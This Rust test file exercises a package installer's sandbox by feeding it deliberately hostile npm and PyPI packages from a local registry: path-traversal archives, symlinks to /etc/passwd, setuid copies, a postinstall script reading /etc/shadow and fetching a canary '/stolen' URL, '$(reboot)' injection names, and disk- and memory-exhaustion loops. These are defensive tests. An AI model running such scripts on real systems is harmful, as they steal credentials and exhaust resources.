//! Packages that mean harm, from a registry of our own: each is refused with a word that stays, and nothing of it is left.

use std::path::Path;
use std::time::Duration;

use rand::SeedableRng as _;
use rand::rngs::StdRng;
use roadstead_model::{InstallationId, SystemClock};
use roadstead_packages::{ErrandGroups, InstallError, Manager, StoreConfig, Stored, Wanted};
use roadstead_test_support::registry::{Entry, NpmPackage, Registry, Wheel};
use roadstead_test_support::wait_for;
use serde_json::json;

use crate::room::{Room, installer, is_root, nothing_is_left, room_of, wanted};

fn npm(name: &str) -> Wanted {
    wanted(Manager::Npm, name, Some("1.0.0"))
}

fn pypi(name: &str) -> Wanted {
    wanted(Manager::Pypi, name, Some("1.0.0"))
}

fn with_scripts(wanted: Wanted) -> Wanted {
    Wanted { scripts: true, ..wanted }
}

async fn installed(room: &Room, wanted: &Wanted) -> Stored {
    let outcome = room.store.install(wanted, |_| {}).await;
    outcome.unwrap_or_else(|error| panic!("{error}: {error:?}")).0
}

/// The word and the message of a refusal, which leaves nothing behind.
async fn refused(room: &Room, wanted: &Wanted) -> (String, String) {
    let error = room.store.install(wanted, |_| {}).await.unwrap_err();
    nothing_is_left(room);
    assert!(room.store.all().is_empty(), "{:?}", room.store.all());
    let InstallError::Refused { code, message } = error else { panic!("{error:?}") };
    (code, message)
}

async fn is_refused(room: &Room, wanted: &Wanted, code: &str, words: &[&str]) {
    let (found, message) = refused(room, wanted).await;
    assert_eq!(found, code, "{message}");
    for word in words {
        assert!(message.contains(word), "{word:?} is not in {message}");
    }
}

/// Nothing in the room but what belongs there.
fn only_the_store(room: &Room) {
    let names = std::fs::read_dir(room.folder.path()).unwrap().flatten().map(|entry| entry.file_name());
    assert_eq!(names.collect::<Vec<_>>(), ["packages"]);
}

fn plain(config: &mut StoreConfig) {
    config.budget = Duration::from_mins(2);
}

#[tokio::test(flavor = "multi_thread")]
async fn an_archive_writes_nothing_outside_its_folder() {
    let registry = Registry::start();
    let mut package = NpmPackage::honest("climber", "1.0.0");
    for path in ["package/../../../../../outside", "/tmp/roadstead-outside", "package/../../outside"] {
        package.files.push(Entry::bare(path, "out"));
    }
    package.files.push(Entry::link("etc", "/etc"));
    package.files.push(Entry::bare("package/etc/roadstead-outside", "out"));
    registry.npm(&package);
    let room = room_of(&registry, plain);
    // npm leaves such entries out, or refuses them; what matters is that they are nowhere.
    match room.store.install(&npm("climber"), |_| {}).await {
        Ok((stored, _hold)) => {
            assert!(!stored.tree.join("node_modules/climber/etc").is_symlink());
        }
        Err(InstallError::Refused { .. }) => nothing_is_left(&room),
        Err(error) => panic!("{error:?}"),
    }
    only_the_store(&room);
    for outside in ["/tmp/roadstead-outside", "/etc/roadstead-outside"] {
        assert!(!Path::new(outside).exists(), "{outside}");
    }
    let registry = Registry::start();
    let mut wheel = Wheel::honest("climber", "1.0.0");
    wheel.files.push(Entry::file("../../outside", "out"));
    registry.wheel(&wheel);
    let room = room_of(&registry, plain);
    is_refused(&room, &pypi("climber"), "failed", &["climber"]).await;
    only_the_store(&room);
}

#[tokio::test(flavor = "multi_thread")]
async fn links_that_lead_out_and_files_that_run_as_their_owner_are_refused() {
    let registry = Registry::start();
    for (name, script, why) in [
        ("linker", "ln -s /etc/passwd out", "leads out"),
        ("climber", "ln -s ../../../../.. out", "leads out"),
        ("owner", "cp /bin/true out && chmod 4755 out", "as its owner"),
        ("piper", "mkfifo out", "neither a file nor a folder"),
    ] {
        let mut package = NpmPackage::honest(name, "1.0.0");
        package.manifest["scripts"] = json!({ "postinstall": script });
        registry.npm(&package);
        let room = room_of(&registry, plain);
        is_refused(&room, &with_scripts(npm(name)), "refused", &["out", why]).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn scripts_do_not_run_unless_they_are_wanted_and_are_told() {
    let registry = Registry::start();
    let mut package = NpmPackage::honest("scripted", "1.0.0");
    package.manifest["scripts"] =
        json!({ "preinstall": "touch ran", "install": "touch ran", "postinstall": "touch ran" });
    package.manifest["dependencies"] = json!({ "inner": "1.0.0" });
    registry.npm(&package);
    let mut inner = NpmPackage::honest("inner", "1.0.0");
    inner.manifest["scripts"] = json!({ "postinstall": "touch ran" });
    registry.npm(&inner);
    let room = room_of(&registry, plain);
    let stored = installed(&room, &npm("scripted")).await;
    assert_eq!(stored.installed.unrun_scripts, ["inner@1.0.0", "scripted@1.0.0"]);
    for name in ["inner", "scripted"] {
        assert!(!stored.tree.join("node_modules").join(name).join("ran").exists(), "{name}");
    }
    let let_run = installed(&room, &with_scripts(npm("scripted"))).await;
    assert!(let_run.tree.join("node_modules/scripted/ran").exists());
    assert!(let_run.installed.unrun_scripts.is_empty());
    assert_ne!(stored.place, let_run.place, "two ways to install one version are two packages");
    nothing_is_left(&room);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_script_may_do_ends_at_the_walls() {
    let registry = Registry::start();
    let canary = Registry::start();
    let mut package = NpmPackage::honest("burglar", "1.0.0");
    let outside = tempfile::tempdir().unwrap();
    let there = outside.path().display();
    let script = format!(
        "(cat /etc/gshadow /etc/shadow; touch {there}/out; echo x > /etc/roadstead-out; \
         node -e \"fetch('{}/stolen').catch(() => 0)\") > said 2>&1; true",
        canary.url()
    );
    package.manifest["scripts"] = json!({ "postinstall": script });
    registry.npm(&package);
    let room = room_of(&registry, plain);
    let stored = installed(&room, &with_scripts(npm("burglar"))).await;
    let said = std::fs::read_to_string(stored.tree.join("node_modules/burglar/said")).unwrap();
    assert!(!said.contains("root:"), "{said}");
    assert_eq!(said.matches("ermission denied").count(), 4, "{said}");
    assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 0);
    assert_eq!(canary.asked(), Vec::<String>::new(), "only the registries' ports are open");
}

#[tokio::test(flavor = "multi_thread")]
async fn programs_outside_the_package_and_names_for_a_shell_are_refused() {
    let registry = Registry::start();
    for (name, bin) in [
        ("outsider", json!({ "outsider": "../../../../etc/passwd" })),
        ("absolute", json!({ "absolute": "/bin/sh" })),
    ] {
        let package = NpmPackage { manifest: json!({ "bin": bin }), ..NpmPackage::honest(name, "1.0.0") };
        registry.npm(&package);
        is_refused(&room_of(&registry, plain), &npm(name), "refused", &["outside the package"]).await;
    }
    let strange = json!({ "$(reboot)": "run.js", "a;b": "run.js", "--flag": "run.js", "../up": "run.js", "a b": "run.js" });
    let package =
        NpmPackage { manifest: json!({ "bin": strange }), ..NpmPackage::honest("strange", "1.0.0") };
    registry.npm(&package);
    is_refused(&room_of(&registry, plain), &npm("strange"), "no_executable", &["strange"]).await;
    let mut wheel = Wheel::honest("strange", "1.0.0");
    wheel.entry_points = "[console_scripts]\n$(reboot) = strange:main\n".to_owned();
    registry.wheel(&wheel);
    // pip itself gives up at such a name.
    is_refused(&room_of(&registry, plain), &pypi("strange"), "failed", &["strange"]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_package_whose_hash_is_another_is_refused() {
    let registry = Registry::start();
    registry.npm(&NpmPackage { has_wrong_hash: true, ..NpmPackage::honest("forged", "1.0.0") });
    registry.wheel(&Wheel { has_wrong_hash: true, ..Wheel::honest("forged", "1.0.0") });
    for wanted in [npm("forged"), pypi("forged")] {
        is_refused(&room_of(&registry, plain), &wanted, "refused", &["forged", "hash"]).await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_does_not_come_from_the_registry_is_refused() {
    let (registry, other) = (Registry::start(), Registry::start());
    registry.npm(&NpmPackage::honest("inner", "1.0.0"));
    other.npm(&NpmPackage::honest("inner", "1.0.0"));
    for (number, from) in [
        "file:../../../../etc".to_owned(),
        "file:inner.tgz".to_owned(),
        format!("{}/inner/-/inner-1.0.0.tgz", other.url()),
        format!("{}/inner/-/inner-1.0.0.tgz", registry.url()),
        "git+ssh://git@127.0.0.1/inner.git".to_owned(),
        format!("git+{}/inner.git", registry.url()),
        "somebody/inner".to_owned(),
    ]
    .into_iter()
    .enumerate()
    {
        let name = format!("confused-{number}");
        let mut package = NpmPackage::honest(&name, "1.0.0");
        package.manifest["dependencies"] = json!({ "inner": from });
        registry.npm(&package);
        let room = room_of(&registry, |config| config.ports.push(other.port()));
        is_refused(&room, &npm(&name), "refused", &[&name, "does not come from the registry"]).await;
    }
    other.wheel(&Wheel::honest("inner", "1.0.0"));
    for (number, from) in [
        format!("{}/files/inner-1.0.0-py3-none-any.whl", other.url()),
        "file:///etc".to_owned(),
        format!("git+{}/inner.git", registry.url()),
    ]
    .into_iter()
    .enumerate()
    {
        let mut wheel = Wheel::honest(&format!("confused_{number}"), "1.0.0");
        wheel.metadata.push(format!("Requires-Dist: inner @ {from}"));
        registry.wheel(&wheel);
        let room = room_of(&registry, |config| config.ports.push(other.port()));
        is_refused(&room, &pypi(&format!("confused-{number}")), "refused", &["does not come from the index"])
            .await;
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_giant_is_refused_by_the_limit_that_it_breaks() {
    let registry = Registry::start();
    let mut many = NpmPackage::honest("many", "1.0.0");
    many.files.extend((0..300).map(|number| Entry::file(&format!("files/{number}"), "x")));
    registry.npm(&many);
    let room = room_of(&registry, |config| config.max_files = 100);
    is_refused(&room, &npm("many"), "too_large", &["more than 100 files"]).await;

    let mut large = NpmPackage::honest("large", "1.0.0");
    large.files.extend((0..40).map(|number| Entry::file(&format!("files/{number}"), vec![b'x'; 100_000])));
    registry.npm(&large);
    let room = room_of(&registry, |config| config.max_bytes = 2_000_000);
    is_refused(&room, &npm("large"), "too_large", &["more than 2000000 bytes"]).await;

    let mut one = NpmPackage::honest("one", "1.0.0");
    one.files.push(Entry::file("file", vec![b'x'; 4_000_000]));
    registry.npm(&one);
    let room = room_of(&registry, |config| config.max_bytes = 2_000_000);
    is_refused(&room, &npm("one"), "too_large", &["more than 2000000 bytes"]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_grows_without_end_is_ended_while_it_grows() {
    let registry = Registry::start();
    let mut package = NpmPackage::honest("grower", "1.0.0");
    let script = "i=0; while true; do i=$((i+1)); head -c 500000 /dev/zero > grown-$i; done";
    package.manifest["scripts"] = json!({ "postinstall": script });
    registry.npm(&package);
    let room = room_of(&registry, |config| config.max_bytes = 2_000_000);
    is_refused(&room, &with_scripts(npm("grower")), "too_large", &["bytes"]).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_registry_that_never_answers_ends_with_the_time() {
    let registry = Registry::start();
    registry.hang("/silent");
    let room = room_of(&registry, |config| config.budget = Duration::from_secs(3));
    let error = room.store.install(&npm("silent"), |_| {}).await.unwrap_err();
    assert!(
        matches!(error, InstallError::Installer(roadstead_packages::ErrandError::Slow { .. })),
        "{error:?}"
    );
    nothing_is_left(&room);
    assert!(registry.asked().contains(&"/silent".to_owned()), "{:?}", registry.asked());
}

#[test]
#[expect(
    clippy::disallowed_methods,
    reason = "the installer is started as the store does, and left as by one that is killed"
)]
fn an_installation_ends_with_whoever_wanted_it() {
    use std::io::Write as _;
    use std::os::unix::process::CommandExt as _;

    let registry = Registry::start();
    registry.hang("/silent");
    let room = room_of(&registry, plain);
    let folder = room.folder.path().join("tree");
    std::fs::create_dir(&folder).unwrap();
    let request = json!({
        "manager": "npm", "name": "silent", "folder": folder, "tools": room.store.tools(),
        "environment": registry.environment(), "ports": [registry.port()], "max_bytes": 1 << 20, "max_files": 100,
    });
    let mut command = std::process::Command::new(installer());
    command
        .env_clear()
        .process_group(0)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null());
    let mut child = command.spawn().unwrap();
    let mut input = child.stdin.take().unwrap();
    writeln!(input, "{request}").unwrap();
    let asked = || registry.asked().contains(&"/silent".to_owned());
    while !asked() && child.try_wait().unwrap().is_none() {
        std::thread::yield_now();
    }
    assert!(asked() && child.try_wait().unwrap().is_none(), "npm waits for the registry");
    drop(input);
    let status = child.wait().unwrap();
    assert_eq!(std::os::unix::process::ExitStatusExt::signal(&status), Some(9), "{status}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_full_disk_is_told_as_one() {
    if !is_root() {
        return;
    }
    let registry = Registry::start();
    let mut package = NpmPackage::honest("large", "1.0.0");
    package.files.push(Entry::file("file", noise(6_000_000)));
    registry.npm(&package);
    let mut wheel = Wheel::honest("large", "1.0.0");
    wheel.files.push(Entry::file("file", noise(6_000_000)));
    registry.wheel(&wheel);
    for wanted in [npm("large"), pypi("large")] {
        let disk = SmallDisk::mount();
        let room = room_of(&registry, |config| config.folder = disk.0.path().join("packages"));
        let error = room.store.install(&wanted, |_| {}).await.unwrap_err();
        let InstallError::Refused { code, message } = &error else { panic!("{error:?}") };
        assert_eq!(code, "disk_full", "{message}");
        let left = std::fs::read_dir(disk.0.path().join("packages/.staging")).unwrap().count();
        assert_eq!(left, 0);
        assert!(room.store.all().is_empty());
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn what_takes_too_much_memory_or_leaves_its_group_is_ended() {
    if !is_root() {
        return;
    }
    let registry = Registry::start();
    let mut package = NpmPackage::honest("hungry", "1.0.0");
    let script = "node -e \"const all = []; while (true) all.push(Buffer.alloc(8 << 20, 1))\"";
    package.manifest["scripts"] = json!({ "postinstall": script });
    registry.npm(&package);
    let limited = |config: &mut StoreConfig| {
        plain(config);
        let id =
            InstallationId::new(&SystemClock::new(), &mut StdRng::seed_from_u64(std::process::id().into()));
        config.groups = Some(ErrandGroups::find(id));
        config.max_memory_bytes = 300 << 20;
    };
    let room = room_of(&registry, limited);
    is_refused(&room, &with_scripts(npm("hungry")), "too_large", &["314572800 bytes of memory"]).await;

    let mut package = NpmPackage::honest("leaver", "1.0.0");
    let lives_on = "setsid sleep 1234567 > /dev/null 2>&1 < /dev/null & echo $! > stays";
    package.manifest["scripts"] = json!({ "postinstall": lives_on });
    registry.npm(&package);
    let stored = installed(&room, &with_scripts(npm("leaver"))).await;
    let pid = std::fs::read_to_string(stored.tree.join("node_modules/leaver/stays")).unwrap();
    let pid = pid.trim().parse().unwrap();
    wait_for("what left its group to end", Duration::from_secs(10), async || {
        roadstead_supervisor::started(pid).is_none().then_some(())
    })
    .await;
}

/// What no archive makes smaller.
fn noise(length: usize) -> Vec<u8> {
    let next = |state: &mut u64| {
        *state ^= *state << 13;
        *state ^= *state >> 7;
        *state ^= *state << 17;
        Some(state.to_le_bytes()[0])
    };
    std::iter::from_fn({
        let mut state = 88_172_645_463_325_252;
        move || next(&mut state)
    })
    .take(length)
    .collect()
}

/// Four mebibytes of room, for as long as it is mounted.
struct SmallDisk(tempfile::TempDir);

impl SmallDisk {
    fn mount() -> Self {
        let folder = tempfile::tempdir().unwrap();
        let options = Some("size=4m,mode=755");
        let none = None::<&str>;
        nix::mount::mount(Some("tmpfs"), folder.path(), Some("tmpfs"), nix::mount::MsFlags::empty(), options)
            .unwrap_or_else(|error| panic!("{error} {none:?}"));
        Self(folder)
    }
}

impl Drop for SmallDisk {
    fn drop(&mut self) {
        nix::mount::umount2(self.0.path(), nix::mount::MntFlags::MNT_DETACH).unwrap();
    }
}
